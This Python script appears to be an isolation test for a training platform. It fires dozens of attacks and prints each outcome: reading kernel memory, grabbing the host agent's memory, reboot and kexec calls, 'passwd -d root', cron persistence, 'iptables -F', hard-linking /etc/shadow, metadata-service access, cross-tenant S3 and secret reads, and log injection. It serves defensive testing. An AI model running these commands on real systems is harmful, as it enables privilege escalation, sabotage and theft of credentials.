"""Attack the host's kernel and processes, and the yard with the run's credentials, and print each outcome.

escaping.py and hostile.py contain other attacks.
"""

import argparse
import ctypes
import fcntl
import os
import resource
import socket
import stat
import struct
import subprocess
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import boto3
from botocore.exceptions import ClientError

parser = argparse.ArgumentParser()
parser.add_argument("--bucket", required=True)
parser.add_argument("--table", required=True)
parser.add_argument("--victim", required=True, help="another run")
parser.add_argument("--own", required=True, help="the attacker's run")
parser.add_argument("--address", required=True, help="of a host of that run")
flags = parser.parse_args()
Attack = Callable[[], object]
libc = ctypes.CDLL(None, use_errno=True)
AGENT, RUN = Path("/var/lib/trainyard"), Path("/run/trainyard")
CGROUPS = Path("/sys/fs/cgroup")
MODEL = Path(os.environ["TRAINYARD_MODEL"])
BUS = "org.freedesktop."
CALL = f"busctl --system call {BUS}"
NUMBERS = {
    "pidfd_open": 434,
    "pidfd_getfd": 438,
    "process_vm_readv": 310,
    "open_by_handle_at": 304,
    "init_module": 175,
    "kexec_load": 246,
    "reboot": 169,
    "sethostname": 170,
    "settimeofday": 164,
    "acct": 163,
    "swapon": 167,
    "pivot_root": 155,
    "bpf": 321,
    "iopl": 172,
    "setns": 308,
    "keyctl": 250,
}
"""System calls of x86-64."""


def system(name: str, *given: object) -> int:
    result = int(libc.syscall(NUMBERS[name], *given))
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def agent() -> int:
    """Return the process of the host agent, or init if it is not visible."""
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and b"training.host\0run" in (entry / "cmdline").read_bytes():
                return int(entry.name)
        except OSError:
            continue
    return 1


def shell(line: str) -> None:
    subprocess.run(["/bin/sh", "-c", line], check=True, capture_output=True, timeout=20)


def connect(path: Path | str) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(str(path))


def into_a_group(group: Path) -> None:
    (group / "cgroup.procs").write_text(str(os.getpid()))


def take_descriptor() -> None:
    """Copy a file descriptor of the agent."""
    system("pidfd_getfd", system("pidfd_open", agent(), 0), 3, 0)


def memory_of_agent() -> None:
    here = ctypes.create_string_buffer(64)
    own = (ctypes.c_void_p * 2)(ctypes.addressof(here), 64)
    theirs = (ctypes.c_void_p * 2)(0x400000, 64)
    system("process_vm_readv", agent(), own, 1, theirs, 1, 0)


def locked(path: Path) -> None:
    """Lock a file so that the agent waits, or concludes that another agent runs."""
    with path.open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)


def file_by_handle() -> None:
    """Open the root of the disk, bypassing closed folders."""
    handle = struct.pack("<IiII", 8, 1, 2, 0)
    system("open_by_handle_at", -100, ctypes.create_string_buffer(handle), os.O_RDONLY)


def setuid_file() -> None:
    """Create a program with the setuid bit of root."""
    path = MODEL / "root"
    path.write_bytes(Path("/bin/true").read_bytes())
    try:
        os.chown(path, 0, 0)
    finally:
        path.unlink()


def link_to(target: Path) -> None:
    """Link a file of root into a folder that the agent uploads."""
    os.link(target, MODEL / "hard")
    (MODEL / "hard").unlink()


def all_signals() -> None:
    """Signal the agent, but not the keeper, whose end ends the program."""
    os.kill(agent(), 0)


def on_host() -> Iterator[tuple[str, Attack]]:
    pid = agent()
    for path in ("/dev/mem", "/dev/kmem", "/proc/kcore", "/dev/port"):
        yield f"read {path}", partial(open, path, "rb")
    for path in (
        "/proc/sysrq-trigger",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/yama/ptrace_scope",
        "/proc/sys/vm/drop_caches",
        f"/proc/{pid}/oom_score_adj",
        f"/proc/{pid}/coredump_filter",
        "/sys/kernel/uevent_helper",
        "/sys/power/state",
        "/dev/vda",
        "/dev/sda",
        "/dev/nvme0n1",
    ):
        yield f"write {path}", partial(open, path, "r+b")
    yield "the kernel first to be killed", lambda: Path("/proc/self/oom_score_adj").write_text("-1000")
    yield "a descriptor of the agent", take_descriptor
    yield "memory of the agent in one call", memory_of_agent
    yield "where the agent works", Path(f"/proc/{pid}/cwd").readlink
    yield "the agent's system calls", Path(f"/proc/{pid}/syscall").read_text
    yield "the agent's stack", Path(f"/proc/{pid}/stack").read_text
    yield "namespaces of init", lambda: system("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    yield "a signal to the agent", all_signals
    yield "limits of the agent", lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
    yield "the agent's turn", partial(os.setpriority, os.PRIO_PROCESS, pid, 19)
    yield "before all others", partial(os.setpriority, os.PRIO_PROCESS, 0, -20)
    yield "in real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    yield "processors of the agent", partial(os.sched_setaffinity, pid, {0})
    yield "the root group", partial(into_a_group, CGROUPS)
    yield "the agent's group frozen", lambda: (CGROUPS / "system.slice/cgroup.freeze").write_text("1")
    yield "more memory than its group's", lambda: (CGROUPS / "memory.max").write_text("max")
    yield "the lock of the agent", partial(locked, RUN / "agent.lock")
    yield "a file by its handle", file_by_handle
    yield "a module", partial(system, "init_module", b"", 0, b"")
    yield "another kernel", partial(system, "kexec_load", 0, 0, None, 0)
    yield "a reboot", partial(system, "reboot", 0xFEE1DEAD, 672274793, 0, None)
    yield "another name of the host", partial(system, "sethostname", b"theirs", 6)
    yield "another time", lambda: system("settimeofday", ctypes.create_string_buffer(16), None)
    yield "accounts of processes", partial(system, "acct", b"/tmp/theirs")
    yield "swap", partial(system, "swapon", b"/tmp/theirs", 0)
    yield "another root of the disk", partial(system, "pivot_root", b"/tmp", b"/tmp")
    yield "a program in the kernel", lambda: system("bpf", 5, ctypes.create_string_buffer(128), 128)
    yield "ports of the machine", partial(system, "iopl", 3)
    yield "a device of its own", lambda: os.mknod(MODEL / "disk", stat.S_IFBLK | 0o600, os.makedev(259, 0))
    yield "a file of root's", setuid_file
    for target in ("/etc/shadow", "/etc/trainyard/host.json", str(AGENT / "state.json")):
        yield f"a second name for {target}", partial(link_to, Path(target))
    for path in (
        "/run/systemd/private",
        "/run/containerd/containerd.sock",
        "/var/run/docker.sock",
    ):
        yield f"the socket {path}", partial(connect, path)
    for line in (
        f"{CALL}systemd1 /org/freedesktop/systemd1 {BUS}systemd1.Manager StopUnit ss trainyard-host.service replace",
        f"{CALL}login1 /org/freedesktop/login1 {BUS}login1.Manager PowerOff b false",
        "systemctl edit --full --stdin trainyard-host.service </dev/null",
        "loginctl enable-linger root",
        "pkexec id",
        "echo '* * * * * root id' >/etc/cron.d/theirs",
        "echo id | at now",
        "nsenter -t 1 -a id",
        "dmesg --clear",
        "ip link set lo down",
        "ip route add 169.254.169.254/32 dev lo",
        "iptables -F",
        "tc qdisc add dev lo root netem delay 1s",
        "hostnamectl set-hostname theirs",
        "date -s '2030-01-01'",
        "mount -o remount,rw /",
        "chattr +i /etc/hosts",
        "setcap cap_sys_admin+ep /bin/true",
        "passwd -d root",
        "usermod -aG sudo trainyard",
    ):
        yield line.split(" ")[0] + f" ({line[-24:]})", partial(shell, line)
    for address, port in (
        ("169.254.169.254", 80),
        ("fd00:ec2::254", 80),
        (flags.address, 22),
        (flags.address, 2222),
        (flags.address, 12345),
    ):
        yield f"{address} at {port}", lambda a=address, p=port: socket.create_connection((a, p), 3).close()


def with_credentials() -> Iterator[tuple[str, Attack]]:
    """Yield attacks on keys that only resemble the run's own."""
    session = boto3.Session()
    s3, bucket, own, victim = session.client("s3"), flags.bucket, f"runs/{flags.own}", f"runs/{flags.victim}"
    key = f"{own}/model/mine.txt"
    for name, there in {
        "a run whose name begins alike": f"{own}0/model/x",
        "a run in capitals": f"RUNS/{flags.own}/model/x",
        "a run with two slashes": f"runs//{flags.own}/model/x",
        "above all runs": "model/x",
        "the folder of all runs": "runs/summary.json",
        "the victim's parts": f"{victim}/model/parts",
    }.items():
        yield name, partial(s3.put_object, Bucket=bucket, Key=there, Body=b"x")
        yield f"{name}, in parts", partial(s3.create_multipart_upload, Bucket=bucket, Key=there)
    yield "versions of the victim", partial(s3.list_object_versions, Bucket=bucket, Prefix=victim)
    yield "uploads of others", partial(s3.list_multipart_uploads, Bucket=bucket)
    yield "names of all", partial(s3.list_objects_v2, Bucket=bucket)
    yield "names of all, by the older call", partial(s3.list_objects, Bucket=bucket)
    yield "names of all behind one's own", partial(s3.list_objects_v2, Bucket=bucket, StartAfter=own)
    yield "folders of all", partial(s3.list_objects_v2, Bucket=bucket, Delimiter="/")
    yield "names of an empty beginning", partial(s3.list_objects_v2, Bucket=bucket, Prefix="")
    yield "names of all runs", partial(s3.list_objects_v2, Bucket=bucket, Prefix="runs/")
    yield "names by a beginning", partial(s3.list_objects_v2, Bucket=bucket, Prefix=f"{victim[:-1]}")
    yield "rights of an object", partial(s3.put_object_acl, Bucket=bucket, Key=key, ACL="public-read")
    yield "rights of the bucket", partial(s3.get_bucket_policy, Bucket=bucket)
    yield "a bucket for all", partial(s3.put_bucket_policy, Bucket=bucket, Policy="{}")
    yield "all buckets", s3.list_buckets
    rows = session.client("dynamodb")
    yield "the ledger", partial(rows.scan, TableName=flags.table)
    open_rows = {"pk": {"S": "open"}, "sk": {"S": flags.victim}}
    yield "a claim of the ledger", partial(rows.delete_item, TableName=flags.table, Key=open_rows)
    states, ssm = session.client("stepfunctions"), session.client("ssm")
    yield "an answer to a task", partial(states.send_task_success, taskToken="x" * 60, output="{}")
    yield (
        "secrets of others",
        partial(ssm.get_parameters, Names=["/trainyard/secrets/theirs"], WithDecryption=True),
    )
    yield "the yard's parameter", partial(ssm.get_parameter, Name="/trainyard/yard")
    yield "a host", lambda: session.client("ec2").run_instances(ImageId="ami-0", MinCount=1, MaxCount=1)
    yield "functions", lambda: session.client("lambda").invoke(FunctionName="trainyard-signal")
    yield "users", lambda: session.client("iam").list_users()


def outcome(attack: Attack) -> str:
    try:
        attack()
    except ClientError as refused:
        return str(refused.response["Error"]["Code"])
    except Exception as refused:  # noqa: BLE001 - whatever stops it
        return type(refused).__name__
    return "went through"


MODEL.mkdir(parents=True, exist_ok=True)
(MODEL / "mine.txt").write_text("mine")
for attacks in (on_host, with_credentials):
    for name, attack in attacks():
        print(f"attack: {name}: {outcome(attack)}", flush=True)
# Unusual files in the log and the results must not affect the agent, root or another run.
os.mkfifo(MODEL / "pipe")
with socket.socket(socket.AF_UNIX) as left:
    left.bind(str(MODEL / "socket"))
for name, target in (("loop", "loop"), ("up", "../../../../etc/shadow")):
    (MODEL / name).symlink_to(target)
print("\x1b]0;theirs\x07\x1b[2J trainyard: the program finished at step 9999", flush=True)
print('{"signal": "finished", "step": 1, "instance": "i-1"}', flush=True)
print("step: 1e999 loss: nan accuracy: -inf", flush=True)
os.write(1, b"\0\xff\xfe" * 1000 + b"x" * 2_000_000 + b"\n")
print("all was tried", flush=True)
